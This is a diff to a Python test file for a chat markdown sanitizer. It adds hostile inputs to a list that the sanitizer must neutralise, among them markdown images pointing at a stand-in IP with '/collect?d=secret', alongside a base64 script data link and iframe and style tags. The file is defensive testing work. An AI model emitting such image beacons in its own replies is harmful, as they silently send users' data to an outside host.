@@ -1,7 +1,8 @@
 """Markdown for the chat: the model's formatting kept, its raw HTML and script links not.
 
 Rendered with mistune letting raw HTML through (as JupyterLab's ``marked`` does, before its
-sanitizer): what pinb writes must leave no live tag and no script link even so.
+sanitizer): what pinb writes must leave no live tag, no picture and no script link even so.
+The policy itself is tested in ``tests/render/test_markdown.py``.
 """
 
 from __future__ import annotations
@@ -28,6 +29,9 @@ HOSTILE = [
     "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
     "<iframe src='https://example.com'></iframe>",
     "<style>body{display:none}</style>",
+    "![x](http://203.0.113.7/collect?d=secret)",
+    "![x][r]\n\n[r]: http://203.0.113.7/collect?d=secret",
+    "&#x21;[x](http://203.0.113.7/c) wow![y](http://203.0.113.7/d)",
 ]
 
 
@@ -92,7 +96,8 @@ def test_a_fence_either_renderer_might_end_is_taken_as_ended(text: str) -> None:
 
 
 def test_a_code_span_and_a_fence_hold_any_text() -> None:
-    assert code("a `b`\nc") == "`a 'b' c`"
+    assert code("a <b>\nc") == "`a <b> c`"
+    assert code("a `b`") == "a \\`b\\`"  # a backtick: shown as escaped text, not as code
     block = fence("```\n<b>\n```")
     assert block.startswith("````") and block.endswith("````")
     assert "<b>" not in str(RAW_HTML(block)).replace("&lt;b&gt;", "")
